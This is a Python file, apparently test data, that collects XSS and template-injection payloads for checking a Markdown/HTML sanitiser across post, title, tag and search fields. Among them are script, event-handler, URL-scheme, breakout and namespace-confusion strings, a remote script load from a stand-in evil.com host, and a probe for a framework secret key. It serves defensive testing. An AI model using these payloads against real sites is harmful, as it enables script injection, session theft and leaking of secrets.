"""Hostile Markdown and HTML: payloads that have broken real sanitisers, used as
post bodies, titles, tags, profile fields, reasons and search queries."""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.com/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script type=module>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'javascript:alert(1)';</style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src/onerror=alert(1)>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<a onclick=alert(1) href=#>click</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<span style=x:expression(alert(1))>ie</span>",
    "<x onpointerenter=alert(1)>x</x>",
]

_SCHEMES = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;script:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "javascript&colon;alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript%3Aalert(1)",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
]

LINKS = (
    [f"[click me]({scheme})" for scheme in _SCHEMES]
    + [f'<a href="{scheme}">click</a>' for scheme in _SCHEMES]
    + [f"![img]({scheme})" for scheme in _SCHEMES[:8]]
    + [
        "<javascript:alert(1)>",
        "[ref]\n\n[ref]: javascript:alert(1)",
        '[ref][x]\n\n[x]: javascript:alert(1) "title"',
        "[a](<javascript:alert(1)>)",
        '[a](javascript:alert(1)"title")',
        "[[nested](javascript:alert(1))](https://example.com)",
        '[a](https://example.com"onmouseover="alert(1))',
        '[a](#"onclick="alert(1))',
        '<a href="https://example.com" onclick="alert(1)">x</a>',
        '<a href="javas&#99;ript:alert(1)">entity</a>',
        "<a href='&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099"
        "&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)'>long entity</a>",
        "<a xlink:href=javascript:alert(1)>x</a>",
        "<area href=javascript:alert(1)>",
        '<img srcset="javascript:alert(1) 1x">',
        "<button formaction=javascript:alert(1)>x</button>",
    ]
)

BREAKOUTS = [
    '![x" onerror="alert(1)](https://example.com/a.png)',
    "![x' onerror='alert(1)](https://example.com/a.png)",
    '!["><script>alert(1)</script>](https://example.com/a.png)',
    '[link](https://example.com "x\\" onmouseover=\\"alert(1)")',
    '[link](https://example.com "\\"><script>alert(1)</script>")',
    "[link](https://example.com '\"><img src=x onerror=alert(1)>')",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "`\"'><img src=x onerror=alert(1)>",
]

NAMESPACES = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><svg><desc><img src=x onerror=alert(1)>",
    "<select><template><style></select><img src=x onerror=alert(1)>",
]

COMMENTS = [
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ><img src=x onerror=alert(1)>?>",
    "<!DOCTYPE x><img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
]

MARKDOWN_TRICKS = [
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "**<img src=x onerror=alert(1)>**",
    '<https://example.com/"onmouseover="alert(1)>',
    "https://example.com/<script>alert(1)</script>",
    'www.example.com/"><svg onload=alert(1)>',
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
]

TEMPLATES = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load static %}{{ request }}",
    "{{ settings.SECRET_KEY }}",
    "${7*7}",
    "#{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 7*7 %>",
]

PAYLOADS = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + LINKS
    + BREAKOUTS
    + NAMESPACES
    + COMMENTS
    + MARKDOWN_TRICKS
    + TEMPLATES
)

# Short enough for a title, a tag-like field or a search box.
SHORT_PAYLOADS = [p for p in PAYLOADS if len(p) <= 80 and "\n" not in p]
